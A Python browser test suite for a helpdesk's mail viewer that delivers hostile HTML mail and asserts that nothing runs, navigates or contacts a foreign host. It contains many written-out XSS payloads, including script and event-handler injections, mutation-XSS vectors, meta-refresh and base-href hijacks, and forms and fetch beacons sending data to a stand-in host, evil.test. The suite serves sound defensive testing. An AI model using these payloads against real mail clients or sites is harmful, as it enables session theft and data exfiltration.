"""Hostile HTML mail in real Chromium: nothing in it runs, navigates or phones home.

Each mail is APPENDed to the test Dovecot, fetched by `postdesk fetch`, and opened
on its request page served by `postdesk serve`, with listeners on the browser
context for every request, dialog, console message, page error and popup (no
init script helps: the page is exactly what a staff member gets).  The foreign
host is a listener of our own on another loopback origin, so a request that left
for it is seen twice: by the browser's request log and by the listener itself.
The payloads also name http://evil.test/, which resolves nowhere: a request to it
shows in the browser's log only.

What must hold, before and after "Show images":
  no dialog opens, no payload's console marker appears, no page error,
  the frame stays on /messages/<id>/body/ (no meta refresh), no popup,
  no request leaves for a foreign host.
After "Show images" (the reader's choice) remote *images* may load: requests of
resource type "image" to the foreign host are allowed then, and nothing else.
"""

from __future__ import annotations

import re
from urllib.parse import urlsplit

import pytest

from .support import ForeignHost, Seen, html_mail

pytestmark = pytest.mark.browser

MARK = "XSS-RAN"  # what a payload's script would print or fetch
SETTLE_MS = 800  # after load: time for a 0 s meta refresh, onload/onerror handlers, lazy images


def body_payloads(evil: str) -> list[tuple[str, str]]:
    """(name, HTML) for the body of a mail; `evil` is the foreign listener's origin."""
    beacon = f"fetch('{evil}/beacon/{{}}');console.log('{MARK} {{}}');alert('{{}}')"
    return [
        ("script", "<script>alert(1)</script>"),
        ("script-beacon", f"<script>{beacon.format('script', 'script', 'script')}</script>"),
        ("script-src", f'<script src="{evil}/ext.js"></script>'),
        ("img-onerror", "<img src=x onerror=alert(1)>"),
        ("img-onerror-beacon", f'<img src=x onerror="{beacon.format("onerror", "onerror", "onerror")}">'),
        ("a-javascript", '<a id="js-link" href="javascript:alert(1)">js-link</a>'),
        ("a-javascript-beacon", f'<a href="javascript:{beacon.format("jslink", "jslink", "jslink")}">js-link-2</a>'),
        ("a-javascript-entity", '<a href="jav&#x09;ascript:alert(1)">js-link-3</a>'),
        ("svg-onload", "<svg onload=alert(1)><circle r=4></circle></svg>"),
        ("svg-script", f"<svg><script>{beacon.format('svgscript', 'svgscript', 'svgscript')}</script></svg>"),
        ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
        ("iframe-src", f'<iframe src="{evil}/frame.html"></iframe>'),
        ("object-embed", f'<object data="{evil}/obj.html"></object><embed src="{evil}/embed.html">'),
        ("css-expression", '<div style="width:expression(alert(1))">css-expression</div>'),
        ("css-url-javascript", '<div style="background:url(javascript:alert(1))">css-url-javascript</div>'),
        ("css-url-remote", f'<div style="background-image:url({evil}/bg.gif)">css-url-remote</div>'),
        ("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://evil.test/">'),
        ("meta-refresh-listener", f'<meta http-equiv="refresh" content="0;url={evil}/refresh">'),
        ("base", '<base href="http://evil.test/">'),
        ("relative-link", '<a href="relative/page">relative-link</a>'),
        ("form", '<form action="http://evil.test/steal"><input name=x value=secret><button>go</button></form>'),
        ("form-listener", f'<form action="{evil}/steal" method="post"><input name=y value=secret><button>go-2</button></form>'),
        ("button-formaction", f'<button formaction="{evil}/formaction">go-3</button>'),
        ("img-remote", '<img src="http://evil.test/pixel.gif" alt="remote-1">'),
        ("img-remote-listener", f'<img src="{evil}/pixel.gif" alt="remote-2">'),
        ("img-srcset", f'<img srcset="{evil}/srcset.gif 1x" alt="remote-3">'),
        ("link-stylesheet", "<link rel=stylesheet href=http://evil.test/x.css>"),
        ("link-stylesheet-listener", f"<link rel=stylesheet href={evil}/x.css>"),
        ("style-import", "<style>@import url(http://evil.test/y.css)</style>"),
        ("style-import-listener", f"<style>@import url({evil}/y.css); body {{ background: url({evil}/body.gif) }}</style>"),
        ("details-ontoggle", "<details open ontoggle=alert(1)><summary>s</summary>d</details>"),
        ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
        ("video-source", "<video><source onerror=alert(1)></video>"),
        ("body-onload", "<body onload=alert(1)>"),
        ("math-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>"),
        ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
        ("svg-animate", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">svg-anim</text></a></svg>'),
        ("data-html-link", '<a href="data:text/html,<script>alert(1)</script>">data-link</a>'),
    ]


def head_payloads(evil: str) -> str:
    """The tricks that live in <head>: a whole HTML-only document."""
    return f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=http://evil.test/">
<meta http-equiv="refresh" content="0;url={evil}/head-refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
<base href="{evil}/">
<link rel=stylesheet href=http://evil.test/x.css>
<link rel=stylesheet href="{evil}/head.css">
<link rel=prefetch href="{evil}/prefetch">
<link rel=dns-prefetch href="//evil.test">
<style>@import url(http://evil.test/y.css); @import url({evil}/head-import.css);</style>
<script>fetch('{evil}/head-script');console.log('{MARK} head');alert('head')</script>
</head><body onload="alert('body-onload')">
<p>Dear support, please see below.</p>
<a href="relative/after-base">relative-link</a>
<form action="steal-relative" method="post"><input name=z value=secret><button>go-head</button></form>
<img src="pixel-relative.gif" alt="relative image">
</body></html>"""


def assert_quiet(seen: Seen, foreign: ForeignHost, *, images_allowed: bool = False, since: int = 0) -> None:
    """Nothing ran, nothing opened, nothing left (but images, once the reader allowed them);
    `since`: look at the browser's requests from that mark on (dialogs and the rest: all)."""
    report = f"{seen.report()}\nforeign listener got: {foreign.requests()}"
    assert not seen.dialogs, f"a dialog opened\n{report}"
    assert not seen.page_errors, report
    assert not [c for c in seen.console if MARK in c[1]], f"a payload's script ran\n{report}"
    # A link the reader clicks opens a tab (the frame's <base target="_blank">); one to a
    # foreign host would be the reader's choice too, but none of the links clicked here
    # may get there: only our own origin.
    assert all(seen.is_local(popup.url) for popup in seen.popups), f"a popup opened on a foreign host\n{report}"
    leaving = [r for r in seen.foreign_requests(since) if not (images_allowed and r[2] == "image" and r[0] == "GET")]
    assert not leaving, f"requests left for a foreign host\n{report}"
    hits = foreign.requests()
    if images_allowed:
        # What a remote image may fetch: the image URLs themselves, nothing a script or form would.
        hits = [h for h in hits if not (h[0] == "GET" and re.search(r"\.gif(\?|$)", h[1]))]
    assert not hits, f"the foreign host was reached\n{report}"


def open_request(page, desk, subject: str) -> tuple[int, int]:
    """From General to the request with this subject; (request number, message id of its frame)."""
    page.goto(desk.url + "/queue/general/")
    page.locator("table.requests tbody tr", has_text=subject).locator("td.subject a").first.click()
    page.wait_for_url(re.compile(re.escape(desk.url) + r"/requests/\d+/$"))
    page.wait_for_load_state("load")  # the frame's load included
    page.wait_for_timeout(SETTLE_MS)
    src = page.locator("iframe.message-html").get_attribute("src") or ""
    match = re.fullmatch(r"/messages/(\d+)/body/", src)
    assert match, f"no iframe.message-html with src /messages/<id>/body/ (src={src!r})"
    return int(page.url.rstrip("/").rsplit("/", 1)[1]), int(match.group(1))


def check_frame(page, desk, message_id: int, *, images: bool) -> None:
    """The frame: sandboxed, still on its own URL, under a strict CSP, and holding nothing active."""
    frame_el = page.locator("iframe.message-html")
    sandbox = set((frame_el.get_attribute("sandbox") or "").split())
    # allow-same-origin is given (the page sizes the frame to its content); never scripts,
    # which is what makes it safe (web/mailframe.py says why).
    assert not sandbox & {"allow-scripts", "allow-forms", "allow-top-navigation",
                          "allow-modals", "allow-top-navigation-by-user-activation"}, sandbox
    frame = frame_el.element_handle().content_frame()
    expected = f"{desk.url}/messages/{message_id}/body/" + ("?images=1" if images else "")
    assert frame.url == expected, f"the frame navigated away: {frame.url}"
    body = page.frame_locator("iframe.message-html")
    # (The frame document's own <base target="_blank"> and <style> in <head> are ours.)
    for selector in ("script", "iframe", "object", "embed", "form", "base[href]", "link", "meta[http-equiv]", "body style",
                     "a[href^='javascript:' i]", "a[href^='data:' i]", "[srcdoc]", "[formaction]", "svg", "math"):
        assert body.locator(selector).count() == 0, f"{selector} survived in the frame"
    handlers = body.locator("html").evaluate(
        "root => [...root.querySelectorAll('*')].flatMap(el => [...el.attributes]"
        ".filter(a => /^on/i.test(a.name) || /javascript:|expression\\(/i.test(a.value))"
        ".map(a => el.tagName + ' ' + a.name + '=' + a.value))")
    assert handlers == [], handlers


def check_frame_policy(responses: list, message_id: int, *, images: bool) -> None:
    """The frame document's own CSP: nothing runs, nothing is fetched but images, and a
    `sandbox` directive for when its URL is opened in a tab of its own."""
    policies = [r.headers.get("content-security-policy", "") for r in responses
                if urlsplit(r.url).path == f"/messages/{message_id}/body/" and ("images=1" in r.url) == images]
    assert policies, "the frame document was not loaded"
    policy = {d.split()[0]: d.split()[1:] for d in (p.strip() for p in policies[-1].split(";")) if d}
    assert policy.get("default-src") == ["'none'"], policies[-1]
    assert "script-src" not in policy or policy["script-src"] == ["'none'"], policies[-1]
    assert "sandbox" in policy and "allow-scripts" not in policy["sandbox"] and "allow-forms" not in policy["sandbox"], policies[-1]
    assert policy.get("form-action") == ["'none'"] and policy.get("base-uri") == ["'none'"], policies[-1]


def poke(page, texts: list[str]) -> None:
    """Click what a reader might click inside the frame (links, buttons), where it survived."""
    body = page.frame_locator("iframe.message-html")
    for text in texts:
        target = body.get_by_text(text, exact=True)
        if target.count():
            target.first.click(timeout=2000, no_wait_after=True)
    page.wait_for_timeout(SETTLE_MS)


def watched(browser, desk):
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    seen = Seen(origin=desk.url)
    seen.attach(context)
    page = context.new_page()
    responses: list = []
    page.on("response", lambda response: responses.append(response))
    return context, seen, page, responses


# =========================================================================== tests


def test_body_payloads(desk, browser, foreign_host, screenshot_dir):
    evil = foreign_host.url
    subject = "<img src=x onerror=alert('subject')> Invoice <script>alert(1)</script>"
    sender = '"<svg onload=alert(1)> Mallory" <mallory@customer.example>'
    cases = body_payloads(evil)
    html = "<!doctype html><html><body><p>Hello, see below.</p>\n" + "\n".join(
        f"<div>case {name}: {payload}</div>" for name, payload in cases) + "\n</body></html>"
    text = f"Plain part <script>alert('text')</script> <img src=x onerror=alert(1)> {MARK}\n"
    desk.deliver(html_mail(subject, html, text=text, sender=sender,
                           attachment=('"><img src=x onerror=alert(1)>.html', "text/html",
                                       b"<script>alert('attachment')</script>")))
    context, seen, page, responses = watched(browser, desk)
    try:
        desk.login(page)
        # The queue shows the hostile subject as text.
        row = page.locator("table.requests tbody tr", has_text="Invoice")
        assert "<script>alert(1)</script>" in row.locator("td.subject").inner_text()
        number, message_id = open_request(page, desk, "Invoice")
        # The main page: subject, sender, text part and attachment name are text, never markup.
        assert "<img src=x onerror=alert('subject')>" in page.locator("h1").inner_text()
        assert "<svg onload=alert(1)>" in page.locator("article.message header").first.inner_text()
        assert "<script>alert('text')</script>" in (page.locator("div.text").first.text_content() or "")
        assert page.locator("main img, main svg, main script").count() == 0
        assert page.locator("ul.attachments a").count() == 1
        check_frame(page, desk, message_id, images=False)
        check_frame_policy(responses, message_id, images=False)
        # The frame still shows the mail's harmless text.
        assert "Hello, see below." in page.frame_locator("iframe.message-html").locator("body").inner_text()
        # Remote images left out, and said so.
        assert page.locator("a.show-images").count() == 1
        page.screenshot(path=str(screenshot_dir / "request-hostile-html-mail.png"), full_page=True)
        poke(page, ["js-link", "js-link-2", "js-link-3", "go", "go-2", "go-3", "data-link", "svg-anim"])
        assert_quiet(seen, foreign_host)

        # The reader's choice: show the images.  Remote images may load now; nothing else may.
        page.locator("a.show-images").click()
        page.wait_for_url(re.compile(rf"/requests/{number}/\?images={message_id}"))
        page.wait_for_load_state("load")
        page.wait_for_timeout(SETTLE_MS)
        check_frame(page, desk, message_id, images=True)
        check_frame_policy(responses, message_id, images=True)
        assert page.locator("a.show-images").count() == 0
        poke(page, ["js-link", "js-link-2", "js-link-3", "go", "go-2", "go-3", "data-link", "svg-anim"])
        assert_quiet(seen, foreign_host, images_allowed=True)
        # Documented, not required: which remote images the reader's click let load.
        image_hits = sorted({path for method, path in foreign_host.requests()})
        print(f"after 'Show images' the foreign host served: {image_hits}")
        remote = page.frame_locator("iframe.message-html").locator("img[alt='remote-2']")
        assert remote.count() == 1 and remote.evaluate("img => img.naturalWidth") == 1, image_hits

        # The frame's URL opened directly in a tab ("Open in a new tab"): the CSP's sandbox holds.
        foreign_host.clear()
        before = seen.mark()
        tab = context.new_page()
        tab.goto(f"{desk.url}/messages/{message_id}/body/")
        tab.wait_for_timeout(SETTLE_MS)
        for text in ["js-link", "js-link-2", "go", "go-2"]:
            target = tab.get_by_text(text, exact=True)
            if target.count():
                target.first.click(timeout=2000, no_wait_after=True)
        tab.wait_for_timeout(SETTLE_MS)
        assert tab.url == f"{desk.url}/messages/{message_id}/body/", tab.url
        assert len(seen.requests) > before
        assert_quiet(seen, foreign_host, since=before)
    finally:
        context.close()


def test_head_payloads(desk, browser, foreign_host):
    """<meta refresh>, <base href>, stylesheets, prefetch and script in <head>; an HTML-only mail."""
    subject = "Head tricks: refresh, base, stylesheets"
    desk.deliver(html_mail(subject, head_payloads(foreign_host.url)))
    context, seen, page, responses = watched(browser, desk)
    try:
        desk.login(page)
        number, message_id = open_request(page, desk, subject)
        check_frame(page, desk, message_id, images=False)
        check_frame_policy(responses, message_id, images=False)
        assert "Dear support" in page.frame_locator("iframe.message-html").locator("body").inner_text()
        # The HTML-only mail's text (from its HTML) is text on the main page.
        assert "Dear support" in (page.locator("div.text").first.text_content() or "")
        poke(page, ["relative-link", "go-head"])
        assert_quiet(seen, foreign_host)
        # Whatever "relative-link" became, it does not point at the foreign host.
        link = page.frame_locator("iframe.message-html").get_by_text("relative-link", exact=True)
        if link.count():
            resolved = link.evaluate("a => a.href")
            assert not resolved.startswith(foreign_host.url) and "evil.test" not in resolved, resolved
    finally:
        context.close()
